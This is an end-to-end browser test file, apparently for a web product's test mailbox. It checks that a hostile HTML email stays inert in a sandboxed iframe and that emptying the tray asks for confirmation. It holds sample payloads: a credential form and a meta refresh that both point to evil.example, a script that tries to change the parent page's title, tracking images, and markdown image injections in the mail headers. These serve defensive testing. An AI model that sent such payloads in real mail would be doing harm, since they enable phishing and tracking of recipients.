"""«Bandeja de pruebas» in a real browser: a mail arrives, a hostile one stays in its frame, emptying asks first."""

from __future__ import annotations

import smtplib
import socket
import ssl
from collections.abc import Callable
from email.message import EmailMessage
from email.policy import SMTP

import pytest
from playwright.sync_api import Page, expect

from cgcore.sandbox import HOST
from cgcore.sandbox.state import load_state
from cgcore.vault import Vault
from cgcore.vault.records import FolderRecords
from tests.conftest import make_settings
from tests.servers.browser import log_in, settled, shoot
from tests.servers.product import Product

pytestmark = pytest.mark.e2e

HOSTILE = """
<h1>Factura 7</h1><p style="color:#0B6BCB">Gracias por su compra.</p>
<p><a id="out" href="https://evil.example/" target="_top">Ver la factura</a></p>
<img id="remote" src="TRACKER/p.png" alt="remota">
<p style="background:url(TRACKER/b.png)">Un saludo</p>
<script>parent.document.title = "taken"; top.document.title = "taken"</script>
<form action="https://evil.example/"><input name="password"></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
"""


@pytest.fixture
def deliver(product: Product) -> Callable[[EmailMessage], None]:
    """Send a message into the running product's test mailbox, with what the product keeps about its account."""

    def deliver(message: EmailMessage) -> None:
        settings = make_settings(product.folder)
        state = load_state(settings.data_dir / "sandbox")
        assert state.ports is not None
        login, user_id = next(iter(state.logins.items()))
        password = Vault(settings, FolderRecords(settings.data_dir / "vault")).get(f"sandbox/{user_id}")
        assert password is not None
        context = ssl.create_default_context(cafile=str(settings.data_dir / "sandbox" / "ca.pem"))
        with smtplib.SMTP_SSL(HOST, state.ports.smtp_ssl, context=context, timeout=10) as client:
            client.login(login, password.reveal())
            client.send_message(message)

    return deliver


def test_what_is_sent_arrives_and_stays_in_its_frame(
    page: Page, product: Product, deliver: Callable[[EmailMessage], None], tracker: socket.socket
) -> None:
    """The account is filled in, the test mail read, a hostile message is inert, the tray emptied after a question."""
    log_in(page, product, "/bandeja-de-pruebas")
    expect(page.get_by_text("Aún no ha llegado nada")).to_be_visible()
    shoot(page, "bandeja-de-pruebas-vacia")
    page.get_by_role("link", name="Ir a Cuenta mail").click()
    settled(page)
    page.get_by_role("button", name="¿Quieres probar sin que salga nada?").click()
    page.get_by_role("button", name="Usar el buzón de pruebas").click()
    settled(page)
    page.get_by_role("button", name="Enviar correo de prueba").click()
    expect(page.get_by_role("dialog")).to_contain_text("Bandeja de pruebas")
    page.get_by_role("dialog").get_by_role("link").click()
    settled(page)
    expect(page.get_by_role("radio", name="Correo de prueba de Cloud Gestion")).to_be_checked()

    seen_by = "http://{}:{}".format(*tracker.getsockname())
    message = EmailMessage()
    message["From"], message["To"] = f"Malo ![x]({seen_by}/a.png) <malo@evil.example>", "ana@tosma.example"
    message["Subject"] = f"![x]({seen_by}/b.png) **Factura** :red[7]"
    message.set_content("Gracias por su compra.")
    message.add_alternative(HOSTILE.replace("TRACKER", seen_by), subtype="html")
    message.add_attachment(b"%PDF-1.7", maintype="application", subtype="pdf", filename="Factura 7.pdf")
    sent = message.as_bytes(policy=SMTP)
    deliver(message)
    page.get_by_role("button", name="Actualizar").click()
    settled(page)

    title = page.title()
    inner = page.frame_locator("iframe").first.frame_locator("iframe")
    expect(inner.get_by_role("heading", name="Factura 7")).to_be_visible()
    expect(page.frame_locator("iframe").first.locator("iframe")).to_have_attribute("sandbox", "")
    with page.expect_download() as original:
        page.get_by_role("button", name="Descargar el original (.eml)").click()
    shoot(page, "bandeja-de-pruebas")
    inner.locator("#out").click(no_wait_after=True)
    page.get_by_role("tab", name="Texto").click()
    expect(page.get_by_text("Gracias por su compra.").last).to_be_visible()
    page.get_by_role("tab", name="Adjuntos (1)").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Factura 7.pdf").click()

    assert download.value.suggested_filename == "Factura 7.pdf"
    # The very bytes, behind the lines of the server that took them.
    arrived = original.value.path().read_bytes()
    assert arrived.endswith(sent)
    assert arrived.removesuffix(sent).startswith(b"Return-Path: <")
    assert page.title() == title
    assert page.url.startswith(product.url)
    with pytest.raises(BlockingIOError):
        tracker.accept()

    # On a phone, after a reload: the messages are still there.
    page.set_viewport_size({"width": 390, "height": 844})
    page.reload()
    settled(page)
    expect(page.get_by_role("radio")).to_have_count(2)
    shoot(page, "bandeja-de-pruebas-390")
    page.get_by_role("button", name="Vaciar", exact=True).click()
    expect(page.get_by_role("dialog")).to_contain_text("Se borrarán 2 mensajes")
    page.get_by_role("dialog").get_by_role("button", name="Vaciar la bandeja").click()
    expect(page.get_by_text("Aún no ha llegado nada")).to_be_visible()
